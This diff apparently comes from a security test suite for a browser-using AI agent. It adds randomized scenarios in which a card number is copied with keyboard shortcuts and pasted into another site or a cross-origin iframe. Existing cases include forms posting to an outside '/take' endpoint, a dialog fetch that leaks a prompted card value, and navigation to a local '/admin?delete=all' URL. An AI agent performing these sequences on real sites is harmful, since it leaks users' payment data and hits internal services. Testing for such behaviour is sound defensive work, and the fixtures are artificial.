@@ -118,6 +118,10 @@ def attacks(home: Site, away: Site, inner: Site, local: Path, chance: random.Ran
     send_away = f"<form method={chance.choice(('get', 'post'))} action='{away.url}/take' {chance.choice(('', 'target=_blank', 'novalidate'))}><input name=c><button>Go</button></form>"
     formaction = f"<form method=post action=/take><input name=c><button formaction='{away.url}/take'>Go</button></form>"
     count = chance.randint(0, 2)
+    field = chance.choice(("<input aria-label=Card>", "<input type=password aria-label=Card>", "<input aria-label=Card oninput=\"document.querySelector('p').textContent = this.value\"><p></p>"))
+    keys = chance.choice((("Control+a", "Control+c"), ("Shift+Home", "Control+Insert"), ("Control+a", "Control+x")))
+    select: list[Call] = [("fill", {"element_id": "input-0", "value": "{{card}}"}), *(("press", {"element_id": "input-0", "key": each}) for each in keys), ("select_text", chance.choice(({"text": DATA}, {"element_id": "input-0"})))]
+    middle, paste = on_each("input", "div", tools=("click_with",), button="middle"), on_each("input", "div", tools=("press",), key=chance.choice(("Control+v", "Control+KeyV", "Control+Shift+v", "Shift+Insert")))
     many = "<title>Shop</title><button onclick=\"fetch('/buy', {method: 'POST'})\">Buy</button><form method=post action=/buy target=_blank><button>Order</button></form>"
 
     def navigate(to: Site) -> Attack:
@@ -146,7 +150,8 @@ def attacks(home: Site, away: Site, inner: Site, local: Path, chance: random.Ran
         lambda: Attack("dialog away from home", (FOLLOW, PRESS, always(("answer_dialog", {"accept": True, "text": value}))), home=link, away={"/gift": "<title>Gift</title><button onclick=\"fetch('/took?' + prompt('Card?'))\">Claim</button>"}, may_ask=frozenset({"/gift", "/took?", "/took?null"})),
         lambda: Attack("new tab away", (FOLLOW, always(("switch_tab", {"tab_id": "tab-1"})), on_each("input", tools=("fill", "type"), value=value), PRESS), home={"/start": f"<title>Shop</title><a target=_blank href='{away.url}/gift'>Gift</a>"}, away=form, may_ask=frozenset({"/gift"})),
         lambda: Attack("another service of this machine", (always(("navigate", {"url": f"{inner.url}/admin?delete=all"}), ("navigate", {"url": f"http://localhost:{inner.port}/admin"}), ("navigate", {"url": f"http://0.0.0.0:{inner.port}/admin"})),)),
-        lambda: Attack("cross-origin paste", (on_each("input", tools=("fill",), value="{{card}}"), always(("press", {"element_id": "input-0", "key": "Control+a"}), ("press", {"element_id": "input-0", "key": "Control+c"})), FOLLOW, always(("press", {"element_id": "input-0", "key": "Control+v"}), ("press", {"element_id": "input-0", "key": "Shift+Insert"}), ("press", {"key": "Enter"}))), home={"/start": f"<title>Shop</title><input aria-label=Card><a href='{away.url}/gift'>Gift</a>"}, away=form, may_ask=frozenset({"/gift"})),
+        lambda: Attack("paste on another site", (always(*select), FOLLOW, middle, paste), home={"/start": f"<title>Shop</title>{field}<a href='{away.url}/gift' {chance.choice(('', 'target=_blank'))}>Gift</a>"}, away=form, may_ask=frozenset({"/gift"})),
+        lambda: Attack("paste into a foreign frame", (always(*select), middle, paste), home={"/start": f"<title>Shop</title>{field}<iframe width=600 height=300 src='{away.url}/gift'></iframe>"}, away=form, may_ask=frozenset({"/gift"})),
     ]  # fmt: skip
 
 
